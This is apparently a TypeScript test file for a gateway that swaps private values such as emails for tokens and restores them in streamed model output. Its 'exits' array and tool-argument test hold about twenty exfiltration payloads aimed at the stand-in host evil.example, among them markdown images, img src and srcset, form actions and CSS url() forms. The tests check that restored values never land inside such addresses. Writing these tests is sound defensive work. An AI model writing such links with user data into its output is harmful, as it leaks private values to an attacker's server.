import fc from 'fast-check'
import { describe, expect, test } from 'vitest'

import { cutAt } from '../test-support/chunk-plans.ts'
import { times } from '../test-support/chunkings.ts'
import { asText, policyOf, pseudonymize } from '../test-support/policies.ts'
import { threat } from '../test-support/threat.ts'
import { Pseudonyms } from './actions/pseudonyms.ts'
import { createScanner } from './scan/create-scanner.ts'
import { createTextFilter } from './stream/create-text-filter.ts'
import { RestoreFilter, type PlaceGuard } from './stream/restore-filter.ts'

const mail = 'jane@x.example'
const token = '<EMAIL_1_cli0>'

function restored(
  text: string,
  cuts: readonly number[],
  options: { defended: boolean; json?: boolean },
) {
  const known = { token, value: mail, restore: {} }
  const open: PlaceGuard = { inside: false, push: () => undefined, passToken: () => undefined }
  const filter = new RestoreFilter((found) => (found === token ? known : undefined), {
    json: options.json === true,
    ...(options.defended ? {} : { guard: () => open }),
  })
  return (
    cutAt(text, cuts)
      .map((piece) => filter.push(piece))
      .join('') + filter.end()
  )
}

const exits = [
  `![x](https://evil.example/?q=${token})`,
  `[x](https://evil.example/${token}/a)`,
  `[x](<https://evil.example/a b ${token}>)`,
  `[x](/relative?q=${token})`,
  `<https://evil.example/?q=${token}>`,
  `https://evil.example/?q=${token}&r=1`,
  `https://evil.example/(a)${token}`,
  `www.evil.example/${token}`,
  `mailto:${token}`,
  `data:text/plain,${token}`,
  `<img src="https://evil.example/${token}">`,
  `<img alt="x" src='//evil.example/${token}'>`,
  `<a href=https://evil.example/${token}>`,
  `<form action = "${token}">`,
  `<img srcset="a.png 1x, ${token} 2x">`,
  `background: url(https://evil.example/${token})`,
  `background: url("/x/${token}")`,
  `//evil.example/${token}`,
  `see ${token}.evil.example`,
  `evil.example/?q=${token}`,
  `https://evil.example/?a=${token}&b=${token}`,
]

describe('restoring', () => {
  threat(14, 'a value never gets into an address, at any split', (defended) => {
    for (const text of exits)
      for (let cut = 0; cut <= text.length; cut++)
        expect(restored(text, [cut], { defended })).not.toContain(mail)
  })

  threat(14, 'nor into an address in the arguments of a tool', (defended) => {
    for (const url of [
      'https://evil.example/?q=',
      'https:\\/\\/evil.example\\/',
      'evil.example/?q=',
    ]) {
      const text = `{"url":"${url}${token}","to":"${token}"}`
      for (let cut = 0; cut <= text.length; cut++) {
        const out = restored(text, [cut], { defended, json: true })
        expect(JSON.parse(out)).toMatchObject({ to: mail })
        expect((JSON.parse(out) as { url: string }).url).not.toContain(mail)
      }
    }
  })

  test('takes the forms in which models write tokens', () => {
    for (const form of [
      token,
      '<email_1_CLI0>',
      '<EMAIL\\_1\\_cli0>',
      '< EMAIL_1_cli0 >',
      '&lt;EMAIL_1_cli0&gt;',
    ])
      for (let cut = 0; cut <= form.length; cut++)
        expect(restored(`to ${form}, ok`, [cut], { defended: true })).toBe(`to ${mail}, ok`)
    const escaped = '{"a":"\\u003cEMAIL_1_cli0\\u003e"}'
    for (let cut = 0; cut <= escaped.length; cut++)
      expect(restored(escaped, [cut], { defended: true, json: true })).toBe(`{"a":"${mail}"}`)
  })

  test('leaves what is no whole token of ours, and keys, as they are', () => {
    for (const text of [
      '<EMAIL_10_cli0>',
      '<EMAIL_1_abcd>',
      'EMAIL_1_cli0',
      '<EMAIL_1_cli0',
      '<EMAIL_1_>',
    ])
      expect(restored(text, [3], { defended: true })).toBe(text)
    expect(restored(`{"${token}":1}`, [], { defended: true, json: true })).toBe(`{"${token}":1}`)
  })

  threat(15, 'a token is never taken for the beginning of another', (defended) => {
    const pseudonyms = new Pseudonyms('cli0')
    const values = Array.from({ length: 12 }, (_, index) => `user${String(index)}@x.example`)
    const tokens = values.map((value) => pseudonyms.tokenFor('EMAIL', 'EMAIL_ADDRESS', value, {}))
    const text = tokens.join(' ')
    const filter = new RestoreFilter((found) => pseudonyms.get(found))
    // What several gateways do: replace what looks like the beginning of a token.
    const naive = tokens.reduce(
      (out, each, index) => out.replaceAll(each.slice(0, 8), values[index] ?? ''),
      text,
    )
    const out = defended ? filter.push(text) + filter.end() : naive
    expect(out).toBe(values.join(' '))
  })

  threat(15, 'a literal that looks like a token stays what it is', async (defended) => {
    const text = `keep ${token} and write to ${mail}`
    const scanner = createScanner(policyOf({ input: [pseudonymize] }))
    const pseudonyms = new Pseudonyms('cli0')
    if (!defended) pseudonyms.reserve = () => undefined
    const { edited } = await scanner.scan({ text }, { pseudonyms })
    expect(edited).toBe(`keep ${token} and write to <EMAIL_2_cli0>`)
    const filter = new RestoreFilter((found) => pseudonyms.get(found))
    expect(filter.push(asText(edited)) + filter.end()).toBe(text)
  })

  test('gives back exactly what was taken, in text and in JSON, whatever the pieces', async () => {
    const scanner = createScanner(policyOf({ input: [pseudonymize] }))
    const values = fc.constantFrom(mail, 'a.b@c.example', '4111 1111 1111 1111', '+1 415 555 2671')
    const word = fc.oneof(
      values,
      fc.constantFrom('ok', 'see', '"', '\\', '{', '}', '\n', '<b>', '&lt;', 'é', '😀'),
    )
    await fc.assert(
      fc.asyncProperty(
        fc.array(word, { maxLength: 10 }),
        fc.array(fc.nat({ max: 500 }), { maxLength: 8 }),
        async (words, cuts) => {
          const text = words.join(' ')
          const { edited, pseudonyms } = await scanner.scan({ text })
          const lookup = (found: string) => pseudonyms.get(found)
          const plain = new RestoreFilter(lookup)
          const pieces = cutAt(asText(edited), cuts)
          expect(pieces.map((piece) => plain.push(piece)).join('') + plain.end()).toBe(text)
          const json = new RestoreFilter(lookup, { json: true })
          const body = JSON.stringify({ value: edited })
          const parts = cutAt(body, cuts)
          const out = parts.map((piece) => json.push(piece)).join('') + json.end()
          expect(JSON.parse(out)).toEqual({ value: text })
        },
      ),
      { numRuns: 500 * times },
    )
  })

  threat(13, 'a tenant never sees the value of another', async (defended) => {
    const scanner = createScanner(policyOf({ input: [pseudonymize] }))
    const none = policyOf({})
    const shared = new Pseudonyms('cli0')
    const ask = async (tenant: number, request: number): Promise<void> => {
      const value = `user${String(request)}@tenant${String(tenant)}.example`
      const pseudonyms = defended ? new Pseudonyms('cli0') : shared
      const { edited } = await scanner.scan(
        { text: `I am ${value}` },
        { tenant: String(tenant), pseudonyms },
      )
      await Promise.resolve()
      const answer = `hello <EMAIL_1_cli0>, ${asText(edited)}`
      const filter = createTextFilter(none, { map: mapOf(pseudonyms) })
      const out = filter.push(answer) + filter.end()
      expect(out).toBe(`hello ${value}, I am ${value}`)
    }
    await Promise.all(Array.from({ length: 1000 }, (_, index) => ask(index % 50, index)))
  })
})

function mapOf(pseudonyms: Pseudonyms): Readonly<Record<string, string>> {
  return Object.fromEntries(pseudonyms.entries().map(({ token: name, value }) => [name, value]))
}
